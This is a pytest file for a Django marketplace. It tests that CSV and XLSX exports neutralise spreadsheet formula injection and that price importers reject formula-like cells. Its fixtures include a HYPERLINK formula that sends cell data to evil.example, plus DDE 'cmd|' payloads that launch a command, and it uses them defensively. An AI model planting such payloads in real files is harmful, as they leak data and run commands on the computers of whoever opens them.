"""Finding 1 of issue 10: text another tenant wrote never runs as a formula in an export."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from cabinet.models import Order
from marketplace.exports import SafeTableExport, neutralise
from marketplace.tenancy import TenantTableView
from pricing.importers import parse_price_file, parse_price_items
from tests.cabinet import factories as f
from tests.pricing.factories import publish

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


def _all_subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _all_subclasses(sub)


def _csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(response) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1", "'\t=1"),
        ("-12.50", "-12.50"),
        ("+7", "+7"),
        ("Bolt M8", "Bolt M8"),
        (-3, -3),
        (None, None),
    ],
)
def test_it_neutralises_formula_text_but_not_numbers(value, shown):
    assert neutralise(value) == shown


def test_it_exports_every_list_through_the_safe_exporter():
    views = list(_all_subclasses(TenantTableView))
    assert len(views) >= 10
    assert all(issubclass(view.export_class, SafeTableExport) for view in views)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_it_neutralises_a_supplier_name_in_the_buyers_order_export(login, buyer, supplier, alice, export_format):
    supplier.name = EVIL
    supplier.save(update_fields=["name"])
    f.order(buyer, supplier)
    response = login(alice).get(reverse("cabinet:order_list"), {"_export": export_format})
    assert response.status_code == 200
    if export_format == "csv":
        cells = _csv_cells(response)
        assert "'" + EVIL in cells
        assert not any(cell.startswith("=") for cell in cells)
    else:
        cells = _xlsx_cells(response)
        assert not any(cell.data_type == "f" for cell in cells)
        assert "'" + EVIL in [cell.value for cell in cells]


def test_it_neutralises_an_rfq_title_in_the_suppliers_export(login, buyer, supplier, sam):
    rfq = f.rfq(buyer, [supplier])
    rfq.title = "@SUM(1+1)*cmd|' /C calc'!A0"
    rfq.save(update_fields=["title"])
    cells = _csv_cells(login(sam).get(reverse("cabinet:rfq_list"), {"_export": "csv"}))
    assert "'" + rfq.title in cells


def test_it_neutralises_price_list_items_in_the_export(login, supplier, sam):
    price_list = publish(supplier)
    price_list.items.filter(pk=price_list.items.first().pk).update(name="+HYPERLINK(1)")
    response = login(sam).get(reverse("pricing:list_detail", args=[price_list.pk]), {"_export": "xlsx"})
    values = [cell.value for cell in _xlsx_cells(response)]
    assert "'+HYPERLINK(1)" in values


def test_it_streams_long_csv_exports_neutralised(login, buyer, supplier, alice, monkeypatch):
    monkeypatch.setattr("marketplace.exports.STREAM_ROWS", 1)
    supplier.name = EVIL
    supplier.save(update_fields=["name"])
    f.order(buyer, supplier)
    f.order(buyer, supplier)
    response = login(alice).get(reverse("cabinet:order_list"), {"_export": "csv"})
    assert response.streaming
    cells = _csv_cells(response)
    assert cells.count("'" + EVIL) == Order.objects.count()


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_it_refuses_text_cells_a_spreadsheet_would_run(start):
    data = f"sku,name,unit,price\nA-1,{start}HYPERLINK(1),pcs,1\nA-2,Nut,pcs,-5\nA-3,Bolt,-,2\n".encode()
    result = parse_price_file(data, "inject.csv")
    assert [(e.row, e.column) for e in result.errors] == [(2, "name"), (3, "price")]
    assert [item.sku for item in result.items] == ["A-3"]


def test_it_refuses_formula_like_items_and_keeps_plain_numbers_as_text():
    result = parse_price_items(
        [
            {"sku": "-1", "name": "Bolt", "price": "1", "currency": "RUB"},
            {"sku": "A-2", "name": "@cmd", "price": "1", "currency": "RUB"},
            {"sku": "+A", "name": "Nut", "price": "1", "currency": "RUB"},
        ]
    )
    assert [(e.row, e.column) for e in result.errors] == [(2, "name"), (3, "sku")]
    assert [item.sku for item in result.items] == ["-1"]
